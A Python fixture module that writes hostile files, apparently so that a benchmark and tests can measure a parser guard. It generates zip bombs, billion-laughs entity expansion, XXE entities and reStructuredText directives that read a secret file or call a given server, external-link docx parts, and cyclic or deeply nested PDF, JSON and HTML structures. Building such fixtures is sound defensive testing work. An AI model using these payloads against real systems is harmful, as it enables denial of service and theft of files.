"""Files that are made to harm who reads them, written into a folder.

Each is small to make and costs a parser that trusts it gigabytes, minutes, a secret or a call to
somebody else's server. `bench.guard_bombs` measures what they cost the guard, and the tests hold it.
"""

from __future__ import annotations

import io
import random
import zipfile
import zlib
from collections.abc import Callable, Iterable, Iterator
from pathlib import Path

MB = 1_000_000
_W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
_S = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'


def write_bombs(folder: Path, secret: Path, server: str, chosen: Callable[[str], bool] = lambda _: True) -> list[str]:
    """Write those whose name is chosen; they try to read `secret` and to call `server`, an http address."""
    folder.mkdir(parents=True, exist_ok=True)
    bombs = dict([*_packages(), *_xml(secret, server), *_sheets(), *_pdfs(), *_texts(secret, server)])
    names = sorted(filter(chosen, bombs))
    for name in names:
        bombs[name](folder / name)
    return names


_Bomb = tuple[str, Callable[[Path], object]]


# Packages


def docx(path: Path, document: Iterable[bytes], extra: dict[str, bytes] | None = None, *, packed: bool = True) -> None:
    """A Word file with this main part, written piece by piece."""
    how = zipfile.ZIP_DEFLATED if packed else zipfile.ZIP_STORED
    with zipfile.ZipFile(path, "w", how, compresslevel=6 if packed else None) as package:
        package.writestr("[Content_Types].xml", _CONTENT_TYPES)
        package.writestr("_rels/.rels", _RELS)
        for name, data in (extra or {}).items():
            package.writestr(name, data)
        with package.open("word/document.xml", "w", force_zip64=True) as part:
            for piece in document:
                part.write(piece)


_CONTENT_TYPES = (
    b'<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    b'<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
    b'<Default Extension="xml" ContentType="application/xml"/><Default Extension="zip" ContentType="application/zip"/>'
    b'<Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.'
    b'wordprocessingml.document.main+xml"/></Types>'
)
_RELS = (
    b'<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    b'<Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument"'
    b' Target="word/document.xml"/></Relationships>'
)


def body(*paragraphs: str, doctype: str = "", encoding: str = "utf-8") -> bytes:
    """The main part of a Word file."""
    inside = "".join(f"<w:p><w:r><w:t>{text}</w:t></w:r></w:p>" for text in paragraphs)
    declared = f'<?xml version="1.0" encoding="{encoding}"?>'
    return f"{declared}{doctype}<w:document {_W}><w:body>{inside}</w:body></w:document>".encode(encoding)


def _packages() -> Iterator[_Bomb]:
    start, end = body("@").split(b"@")
    piece = b"a" * (540_000 - 45) + b"</w:t></w:r></w:p><w:p><w:r><w:t>"
    yield "540 MB.docx", lambda path: docx(path, [start, *[piece] * 1_000, end])
    yield "nested.docx", lambda path: docx(path, [body("text")], {"word/embeddings/inner.zip": _nested(6)})
    yield "overlapping.docx", _overlapping
    yield "members.docx", lambda path: docx(path, [body("text")], {f"word/x{n}.xml": b"<a/>" for n in range(20_000)})
    yield "lying.docx", _lying


def _nested(depth: int) -> bytes:
    data = b"\0" * 10 * MB
    for level in range(depth):
        packed = io.BytesIO()
        with zipfile.ZipFile(packed, "w", zipfile.ZIP_DEFLATED) as package:
            for number in range(16):
                package.writestr(f"{level}-{number}.zip", data)
        data = packed.getvalue()
    return data


def _overlapping(path: Path) -> None:
    """Many members that share the bytes of one (Fifield, "A better zip bomb", 2019)."""
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as package:
        package.writestr("word/document.xml", body("a" * 4 * MB))
        one = package.infolist()[0]
        for number in range(500):
            twin = zipfile.ZipInfo(f"word/part{number}.xml")
            for field in ("compress_type", "CRC", "compress_size", "file_size", "header_offset"):
                setattr(twin, field, getattr(one, field))
            package.filelist.append(twin)


def _lying(path: Path) -> None:
    """Declares a kilobyte and holds 100 MB."""
    docx(path, [body("a" * 100 * MB)])
    real = (100 * MB + len(body(""))).to_bytes(4, "little")
    path.write_bytes(path.read_bytes().replace(real, (1_000).to_bytes(4, "little")))


# XML


def _xml(secret: Path, server: str) -> Iterator[_Bomb]:
    laughs = "".join(f'<!ENTITY l{n + 1} "{f"&l{n};" * 10}">' for n in range(9))
    laughs = f'<!DOCTYPE x [<!ENTITY l0 "lol">{laughs}]>'
    yield "laughs.docx", lambda path: docx(path, [body("&l9;", doctype=laughs)])
    yield "laughs utf-16.docx", lambda path: docx(path, [body("&l9;", doctype=laughs, encoding="utf-16")])
    late = f"<!-- {'x' * 200_000} -->{laughs}"
    yield "laughs late.docx", lambda path: docx(path, [body("&l9;", doctype=late)])
    yield "laughs ebcdic.docx", lambda path: docx(path, [body("&l9;", doctype=laughs, encoding="cp037")])
    yield "laughs.xlsx", lambda path: xlsx(path, [_cell("A1", 0)], _shared("&l9;", laughs))
    for name, target in (("file", secret.as_uri()), ("http", f"{server}/xxe")):
        doctype = f'<!DOCTYPE x [<!ENTITY e SYSTEM "{target}"><!ENTITY % p SYSTEM "{target}"> %p;]>'
        yield f"xxe {name}.docx", lambda path, d=doctype: docx(path, [body("&e;", doctype=d)])
        yield f"xxe {name}.xlsx", lambda path, d=doctype: xlsx(path, [_cell("A1", 0)], _shared("&e;", d))
        yield f"xxe {name}.html", lambda path, d=doctype: path.write_text(f"{d}<p>text &e;</p>")
        rels = _RELS.replace(b"word/document.xml", target.encode()).replace(
            b'Target="', b'TargetMode="External" Target="'
        )
        yield (
            f"linked {name}.docx",
            lambda path, r=rels: docx(path, [body("text")], {"word/_rels/document.xml.rels": r}),
        )
    yield (
        "one node.docx",
        lambda path: docx(path, [body(random.Random(1).randbytes(30 * MB).hex())], packed=False),
    )
    yield "deep.docx", lambda path: docx(path, [body("<w:r>" * 100_000 + "</w:r>" * 100_000)])


# Sheets


def xlsx(path: Path, rows: Iterable[str], shared: bytes = b"", after: str = "") -> None:
    """A workbook of one sheet."""
    office = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    packages = "http://schemas.openxmlformats.org/package/2006"
    kind = "application/vnd.openxmlformats-officedocument.spreadsheetml"
    types = "".join(
        f'<Override PartName="/xl/{part}.xml" ContentType="{kind}.{name}+xml"/>'
        for part, name in (
            ("workbook", "sheet.main"),
            ("worksheets/sheet1", "worksheet"),
            ("sharedStrings", "sharedStrings"),
        )
    )
    links = "".join(
        f'<Relationship Id="r{n}" Type="{office}/{name}" Target="{target}"/>'
        for n, (name, target) in enumerate(
            [("worksheet", "worksheets/sheet1.xml"), ("sharedStrings", "sharedStrings.xml")]
        )
    )
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED, compresslevel=4) as package:
        package.writestr(
            "[Content_Types].xml",
            f'<Types xmlns="{packages}/content-types"><Default Extension="rels" '
            f'ContentType="application/vnd.openxmlformats-package.relationships+xml"/>{types}</Types>',
        )
        package.writestr("_rels/.rels", _RELS.replace(b"word/document", b"xl/workbook"))
        package.writestr(
            "xl/_rels/workbook.xml.rels", f'<Relationships xmlns="{packages}/relationships">{links}</Relationships>'
        )
        package.writestr(
            "xl/workbook.xml",
            f'<workbook {_S} xmlns:r="{office}"><sheets><sheet name="S" sheetId="1" r:id="r0"/></sheets></workbook>',
        )
        package.writestr("xl/sharedStrings.xml", shared or f"<sst {_S}><si><t>text</t></si></sst>")
        with package.open("xl/worksheets/sheet1.xml", "w") as part:
            part.write(f"<worksheet {_S}><sheetData>".encode())
            for row in rows:
                part.write(row.encode())
            part.write(f"</sheetData>{after}</worksheet>".encode())


def _cell(place: str, shared: int) -> str:
    return f'<row><c r="{place}" t="s"><v>{shared}</v></c></row>'


def _shared(text: str, doctype: str = "") -> bytes:
    return f'<?xml version="1.0"?>{doctype}<sst {_S}><si><t>{text}</t></si></sst>'.encode()


def _sheets() -> Iterator[_Bomb]:
    def million() -> Iterator[str]:
        for row in range(1, 1_000_001):
            yield f'<row r="{row}"><c r="A{row}"><v>{row * 7 % 9973}</v></c><c r="B{row}"><v>{row % 101}</v></c></row>'

    yield "million rows.xlsx", lambda path: xlsx(path, million())
    stray = '<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>'
    yield "stray cell.xlsx", lambda path: xlsx(path, [_cell("A1", 0), stray])
    merged = "".join(f'<mergeCell ref="A{n}:XFD{n + 5}"/>' for n in range(1, 20_000, 6))
    cells = "".join(f'<row r="{n}"><c r="A{n}"><v>1</v></c></row>' for n in range(1, 20_000, 6))
    yield "merged.xlsx", lambda path: xlsx(path, [cells], after=f"<mergeCells>{merged}</mergeCells>")
    many = "<si><t>{}</t></si>".format("long " * 6_000) * 4_000
    yield "shared strings.xlsx", lambda path: xlsx(path, [_cell("A1", 0)], f"<sst {_S}>{many}</sst>".encode())


# PDF


def pdf(path: Path, objects: dict[int, bytes], root: int = 1) -> None:
    """A PDF of these objects with a true cross-reference table."""
    out, places = bytearray(b"%PDF-1.7\n"), dict[int, int]()
    for number, content in objects.items():
        places[number] = len(out)
        out += b"%d 0 obj\n%s\nendobj\n" % (number, content)
    start = len(out)
    out += b"xref\n0 1\n0000000000 65535 f \n"
    for number, place in places.items():
        out += b"%d 1\n%010d 00000 n \n" % (number, place)
    out += b"trailer\n<</Size %d/Root %d 0 R>>\nstartxref\n%d\n%%%%EOF" % (max(objects) + 1, root, start)
    path.write_bytes(out)


_CATALOG = b"<</Type/Catalog/Pages 2 0 R>>"
_FONT = b"<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>"


def _page(contents: int) -> bytes:
    return (
        b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 600 800]/Contents %d 0 R/Resources<</Font<</F 4 0 R>>>>>>" % contents
    )


def _stream(data: bytes, filters: bytes = b"/FlateDecode") -> bytes:
    return b"<</Filter %s/Length %d>>stream\n%s\nendstream" % (filters, len(data), data)


def _kids(numbers: Iterable[int]) -> bytes:
    listed = [b"%d 0 R" % number for number in numbers]
    return b"<</Type/Pages/Count %d/Kids[%s]>>" % (len(listed), b" ".join(listed))


def _zeros(megabytes: int, fill: bytes = b"\0") -> bytes:
    packer = zlib.compressobj(9)
    piece = fill * (MB // len(fill))
    return b"".join([*(packer.compress(piece) for _ in range(megabytes)), packer.flush()])


def _pdfs() -> Iterator[_Bomb]:
    def one_page(content: bytes | Callable[[], bytes], more: dict[int, bytes] | None = None) -> Callable[[Path], None]:
        def write(path: Path) -> None:
            made = content if isinstance(content, bytes) else content()
            pdf(path, {1: _CATALOG, 2: _kids([3]), 3: _page(5), 4: _FONT, 5: made, **(more or {})})

        return write

    shows = b"BT /F 9 Tf 50 700 Td (Thaw the vial at 37 C) Tj ET\n"
    yield "flate 2 GB.pdf", one_page(lambda: _stream(_zeros(2_000)))
    yield "flate 200 MB of text.pdf", one_page(lambda: _stream(_zeros(200, shows)))
    yield (
        "flate chained.pdf",
        one_page(lambda: _stream(zlib.compress(_zeros(4_000), 9), b"[/FlateDecode/FlateDecode]")),
    )
    heavy = {n: _page(5) for n in range(10, 310)}
    yield (
        "heavy pages.pdf",
        lambda path: pdf(path, {1: _CATALOG, 2: _kids(heavy), 4: _FONT, 5: _stream(_zeros(3, shows)), **heavy}),
    )
    light = _stream(zlib.compress(shows))
    yield (
        "one page 100,000 times.pdf",
        lambda path: pdf(path, {1: _CATALOG, 2: _kids([3] * 100_000), 3: _page(5), 4: _FONT, 5: light}),
    )
    yield (
        "pages in a circle.pdf",
        lambda path: pdf(
            path, {1: _CATALOG, 2: _kids([2, 3, 2]), 3: b"<</Type/Pages/Parent 2 0 R/Kids[2 0 R 3 0 R]/Count 9>>"}
        ),
    )
    yield "object is itself.pdf", lambda path: pdf(path, {1: b"1 0 R", 2: b"2 0 R"})
    yield "contents in a circle.pdf", one_page(b"[5 0 R 6 0 R]", {6: b"[5 0 R 6 0 R]"})
    parents = {n: b"<</Type/Pages/Count 1/Kids[%d 0 R]>>" % (n + 1) for n in range(10, 20_000)}
    yield (
        "pages 20,000 deep.pdf",
        lambda path: pdf(path, {1: _CATALOG, 2: _kids([10]), 20_000: _page(5), 4: _FONT, 5: light, **parents}),
    )
    yield (
        "arrays a million deep.pdf",
        one_page(light, {1: b"<</Type/Catalog/Pages 2 0 R/X " + b"[" * MB + b"]" * MB + b">>"}),
    )
    yield (
        "dicts deep.pdf",
        one_page(light, {1: b"<</Type/Catalog/Pages 2 0 R/X " + b"<</X" * 300_000 + b" 1 " + b">>" * 300_000 + b">>"}),
    )
    form = (
        b"<</Type/XObject/Subtype/Form/BBox[0 0 9 9]/Resources<</XObject<</A 6 0 R/B 7 0 R>>>>"
        b"/Length 12>>stream\n/A Do /B Do \nendstream"
    )
    drawing = b"<</Length 6>>stream\n/A Do \nendstream"
    page = b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]/Contents 5 0 R/Resources<</XObject<</A 6 0 R>>>>>>"
    yield "forms in a circle.pdf", one_page(drawing, {3: page, 6: form, 7: form})
    ladder = {
        n: b"<</Type/XObject/Subtype/Form/BBox[0 0 9 9]/Resources<</XObject<</A %d 0 R>>>>"
        b"/Length 24>>stream\n/A Do /A Do /A Do /A Do \nendstream" % (n + 1)
        for n in range(6, 36)
    }
    yield "forms that double.pdf", one_page(drawing, {3: page, **ladder, 36: form})
    whole = b"%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n"
    loop = b"xref\n0 1\n0000000000 65535 f \ntrailer<</Size 9/Root 1 0 R/Prev %d>>\nstartxref\n%d\n%%%%EOF"
    yield "tables in a circle.pdf", lambda path: path.write_bytes(whole + loop % (len(whole), len(whole)))
    huge = b"xref\n0 2000000000\n0000000000 65535 f \ntrailer<</Size 2000000000/Root 1 0 R>>\nstartxref\n%d\n%%%%EOF"
    yield "table of 2,000,000,000.pdf", lambda path: path.write_bytes(whole + huge % len(whole))
    index = (
        b"<</Type/XRef/Size 9/Root 1 0 R/W[1 2 1]/Index[0 2000000000]"
        b"/Filter/FlateDecode/Length %d>>stream\n%s\nendstream"
    )

    def packed(path: Path) -> None:
        rows = _zeros(1_200)
        tail = b"endobj\nstartxref\n%d\n%%%%EOF" % len(whole)
        path.write_bytes(whole + b"9 0 obj" + index % (len(rows), rows) + tail)

    yield "table packed.pdf", packed


# Text


def _texts(secret: Path, server: str) -> Iterator[_Bomb]:
    def sparse(path: Path) -> None:
        with path.open("wb") as file:
            file.truncate(2_000 * MB)

    yield "sparse.txt", sparse
    yield "sparse.log", sparse
    yield "one line.csv", lambda path: path.write_bytes(b"a," * 100 * MB)
    yield "one field.csv", lambda path: path.write_bytes(b'"' + b"a" * 20 * MB)
    yield "one word.txt", lambda path: path.write_bytes(b"a" * 20 * MB)
    yield "deep.json", lambda path: path.write_bytes(b"[" * 10 * MB)
    yield "deep objects.json", lambda path: path.write_bytes(b'{"a":' * MB + b"1" + b"}" * MB)
    yield "deep.html", lambda path: path.write_bytes(b"<div>" * MB + b"text")
    yield "tables.html", lambda path: path.write_bytes(b"<table><tr><td>" * 20_000 + b"text")
    yield (
        "spans.html",
        lambda path: path.write_bytes(b"<table><tr><td rowspan=65534 colspan=1000>x</td></tr></table>" * 20),
    )
    yield "deep.md", lambda path: path.write_bytes(b"> " * 500_000 + b"text")
    yield "brackets.md", lambda path: path.write_bytes(b"[" * 2 * MB)
    yield "emphasis.md", lambda path: path.write_bytes(b"*a **b " * 300_000)
    yield "deep.rst", lambda path: path.write_bytes(b"".join(b" " * n + b"* a\n\n" for n in range(0, 3_000, 2)))
    yield "stars.rst", lambda path: path.write_bytes(b"*a `b |c " * 200_000)
    reads = f".. include:: {secret}\n\n.. raw:: html\n   :file: {secret}\n\n.. csv-table:: t\n   :file: {secret}\n\n"
    calls = f".. raw:: html\n   :url: {server}/raw\n\n.. csv-table:: t\n   :url: {server}/csv\n\n"
    calls += f".. image:: {server}/i.png\n"
    yield "reads.rst", lambda path: path.write_text(f"Title\n=====\n\ntext\n\n{reads}{calls}", "utf-8")
    links = f'<link rel=stylesheet href="{server}/a.css"><img src="{server}/a.png">'
    links += f'<iframe src="{secret.as_uri()}"></iframe>'
    yield (
        "links.html",
        lambda path: path.write_text(f"<html><head>{links}</head><body><p>text</p>{links}</body></html>"),
    )
